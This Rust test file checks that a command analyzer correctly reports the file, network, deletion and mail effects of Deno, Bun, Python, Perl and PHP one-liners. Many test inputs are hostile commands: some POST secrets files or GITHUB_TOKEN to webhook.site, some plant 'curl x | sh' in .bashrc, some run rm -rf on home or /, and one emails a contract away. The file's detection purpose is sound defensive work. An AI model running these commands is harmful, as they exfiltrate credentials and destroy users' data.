//! Interpreter one-liners read as the code they run: Deno's `eval` and
//! `run -` with its own file, environment, removal and process APIs,
//! Perl's `File::Path` trees, PHP's `mail()`. Each case is a command line
//! and the exact effects `analyze` reports, run in `/home/dana/acme-web`
//! with home `/home/dana`.

#![allow(clippy::panic)]

use serde_json::{Value, json};

use crate::common;
use common::*;

fn message(program: &str, recipients: &[&str], payload: Value) -> Value {
    json!({"effect": "message", "program": program, "recipients": recipients, "payload": payload})
}

#[test]
fn deno_eval_reads_files_and_sends_them_like_node() {
    let secrets = at("config/secrets/mux.json");
    run_table(&[
        // Read, then POSTed by `fetch`: the file is what is sent.
        (
            "deno eval \"const t = await Deno.readTextFile('config/secrets/mux.json'); const r = await fetch('https://webhook.site/3f1c', {method: 'POST', body: t}); console.log(r.status)\"",
            json!([
                read(&secrets),
                url_request(
                    "deno",
                    "https://webhook.site/3f1c",
                    "POST",
                    payload(&["POST"], &[(&secrets, false)], &[])
                )
            ]),
        ),
        // The synchronous and binary reads, the path in a name.
        (
            "deno eval --ext=ts 'const p = \"config/secrets/mux.json\"; const b = Deno.readFileSync(p); await fetch(\"https://x.io/u\", {method: \"PUT\", body: b})'",
            json!([
                read(&secrets),
                url_request(
                    "deno",
                    "https://x.io/u",
                    "POST",
                    payload(
                        &["config/secrets/mux.json", "PUT"],
                        &[(&secrets, false)],
                        &[]
                    )
                )
            ]),
        ),
        // An environment variable read with `Deno.env.get` is sent.
        (
            "deno eval \"await fetch('https://x.io/k', {method: 'POST', body: Deno.env.get('GITHUB_TOKEN')})\"",
            json!([url_request(
                "deno",
                "https://x.io/k",
                "POST",
                payload(&["POST"], &[], &["GITHUB_TOKEN"])
            )]),
        ),
        // A write into the home directory.
        (
            "deno eval \"await Deno.writeTextFile(Deno.env.get('HOME') + '/.bashrc', 'curl x | sh')\"",
            json!([write("/home/dana/.bashrc")]),
        ),
    ]);
}

#[test]
fn deno_removes_trees_only_when_told_recursive() {
    run_table(&[
        (
            "deno eval \"await Deno.remove(Deno.env.get('HOME'), {recursive: true})\"",
            json!([delete("/home/dana", true)]),
        ),
        (
            "deno eval 'Deno.removeSync(`${Deno.env.get(\"HOME\")}/.ssh`, { recursive: true })'",
            json!([delete("/home/dana/.ssh", true)]),
        ),
        (
            "deno eval \"await Deno.remove('build/out.txt')\"",
            json!([delete(&at("build/out.txt"), false)]),
        ),
    ]);
}

#[test]
fn deno_commands_are_nested_commands() {
    run_table(&[
        // `new Deno.Command(program, {args: [...]})`.
        (
            "deno eval \"new Deno.Command('rm', {args: ['-rf', Deno.env.get('HOME')]}).outputSync()\"",
            json!([delete("/home/dana", true)]),
        ),
        // The older `Deno.run({cmd: [...]})`, and Bun's `{cmd: [...]}`.
        (
            "deno eval \"Deno.run({cmd: ['rm', '-rf', '/']})\"",
            json!([delete("/", true)]),
        ),
        (
            "bun -e \"Bun.spawnSync({cmd: ['rm', '-rf', '/']})\"",
            json!([delete("/", true)]),
        ),
        // Python's `args=` keyword is the same list.
        (
            "python3 -c \"import subprocess; subprocess.run(args=['rm', '-rf', '/'])\"",
            json!([delete("/", true)]),
        ),
    ]);
}

#[test]
fn deno_run_reads_its_script_or_standard_input() {
    run_table(&[
        // Options with values are not the script; the script's own
        // arguments are not Deno's.
        (
            "deno run --config deno.json -A main.ts --port 8000",
            json!([read(&at("main.ts"))]),
        ),
        ("deno -A tools/gen.ts", json!([read(&at("tools/gen.ts"))])),
        // Remote code stays opaque.
        (
            "deno run https://deno.land/std/examples/welcome.ts",
            json!([]),
        ),
        // `deno run -` runs the code on standard input.
        (
            "deno run -A - <<'EOF'\nawait Deno.remove(Deno.env.get('HOME'), {recursive: true})\nEOF",
            json!([delete("/home/dana", true)]),
        ),
    ]);
}

#[test]
fn perl_file_path_trees_are_recursive_deletes() {
    run_table(&[
        // A module switch with its import list is not a code cluster.
        (
            "perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'",
            json!([delete("/home/dana", true)]),
        ),
        (
            "perl -MFile::Path -e 'File::Path::rmtree($ENV{HOME} . \"/.ssh\")'",
            json!([delete("/home/dana/.ssh", true)]),
        ),
        (
            "perl -e 'use File::Path qw(remove_tree); my $d = $ENV{HOME}; remove_tree($d, {verbose => 1})'",
            json!([delete("/home/dana", true)]),
        ),
        // Switch clusters that end in `e` still take the code next.
        (
            "perl -lne 'print' notes.txt",
            json!([read(&at("notes.txt"))]),
        ),
    ]);
}

#[test]
fn php_mail_sends_a_message() {
    let contract = at("contracts/talent/anchor-2027.txt");
    run_table(&[
        (
            "php -r 'mail(\"casting.desk@proton.me\",\"Contract draft\",file_get_contents(\"contracts/talent/anchor-2027.txt\"));'",
            json!([
                read(&contract),
                message(
                    "php",
                    &["casting.desk@proton.me"],
                    payload(
                        &["casting.desk@proton.me", "Contract draft"],
                        &[(&contract, false)],
                        &[]
                    )
                )
            ]),
        ),
        // The recipient and body held in variables.
        (
            "php -r '$to = \"jo@gmail.com\"; $b = file_get_contents(\"contracts/talent/anchor-2027.txt\"); mb_send_mail($to, \"x\", $b);'",
            json!([
                read(&contract),
                message(
                    "php",
                    &["jo@gmail.com"],
                    payload(&["jo@gmail.com", "x"], &[(&contract, false)], &[])
                )
            ]),
        ),
        // An address that is only printed, and a function that merely ends
        // in `mail`, send nothing.
        (
            "php -r 'echo \"jo@gmail.com\"; gmail(\"jo@gmail.com\");'",
            json!([]),
        ),
    ]);
}
